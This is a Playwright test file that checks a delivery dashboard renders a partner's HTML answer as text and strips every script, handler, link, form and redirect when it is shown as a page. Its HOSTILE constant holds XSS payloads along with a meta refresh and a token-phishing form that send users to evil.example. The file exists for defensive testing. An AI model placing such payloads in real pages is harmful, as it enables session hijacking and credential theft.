/** What a partner answers is shown to whoever looks after deliveries: it must not do anything there. */

import { listen } from '../../../demo-site/listen.ts';
import { connector, postback } from '../../support/stack/connectorSettings.ts';
import { expect } from '../../support/stack/stack.ts';
import { sendEvent } from '../sendEvents.ts';
import { test as base, expectAccessible, openDashboard } from '../support.ts';

const HOSTILE = `<!doctype html><html><head><title>500</title>
<style>main, nav { display: none }</style><script>window.hacked = 'script'</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="window.hacked = 'onload'"><h1 id="app">Out of order</h1>
<img src="/api/connectors" onerror="window.hacked = 'image'"><svg onload="window.hacked = 'svg'"><circle r="1"/></svg>
<a href="javascript:window.hacked = 'link'">Sign in again</a>
<form action="https://evil.example/"><label>Access token <input name="token"></label><button>Sign in</button></form>
<p style="position: fixed; inset: 0">Come back later.</p><iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
</body></html>`;

/** A partner of our own, which the collector may reach. */
const test = base.extend<{ partnerUrl: string }>({
  // Playwright wants a pattern here, and this fixture needs nothing
  partnerUrl: async ({ browserName: _ }, use) => {
    const site = await listen(
      (_request, response) => void response.writeHead(404, { 'content-type': 'text/html' }).end(HOSTILE),
      0,
      'hostile partner',
    );
    await use(site.url);
    await site.close();
  },
  collectorEnv: async ({ partnerUrl }, use) => {
    await use({ TRL_ALLOWED_DESTINATIONS: new URL(partnerUrl).host });
  },
});

test('an answer of markup is text, and as a page it is cleaned of all that acts', async ({
  page,
  stack,
  partnerUrl,
  consoleErrors,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await stack.install([connector('hostile', { name: 'Hostile', webhook: postback(`${partnerUrl}/p`, { v: '1' }) })]);
  await sendEvent(stack);
  await openDashboard(page, stack, '/deliveries');
  await page.getByRole('grid').getByRole('link').first().click();
  const panel = page.getByRole('region', { name: 'Delivery', exact: true });
  const answer = panel.getByRole('region', { name: 'Answer to the 1st attempt', exact: true });
  await expect(answer).toContainText('<script>window.hacked');
  asked.length = 0;

  // the second attempt, which comes by itself, has such a button too
  const first = panel.getByRole('listitem').filter({ has: page.getByText('1st', { exact: true }) });
  await first.getByRole('button', { name: 'Show as a page' }).click();
  const shown = panel.getByRole('region', { name: 'Answer to the 1st attempt, as a page' });
  await expect(shown.getByRole('heading', { name: 'Out of order' })).toBeVisible();
  await expect(shown).toContainText('Come back later.');
  await expect(
    shown.locator('script, style, img, svg, iframe, form, input, button, a[href], [style], [id], meta, base'),
  ).toHaveCount(0);
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  await expectAccessible(page);
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
  // the dashboard's own: its parts, its stream, and the delivery again once it was tried again
  const own = ['/assets/', '/api/deliveries/'].map((path) => stack.collector.url + path);
  expect(asked.filter((url) => !own.some((start) => url.startsWith(start)))).toEqual([]);
  expect(page.url()).toContain(stack.collector.url);
  // the cleaning parses it in a document that nothing runs in; the browser tells what it would have refused there
  expect(consoleErrors.filter((text) => !text.includes('Content Security Policy'))).toEqual([]);
  consoleErrors.length = 0;
});
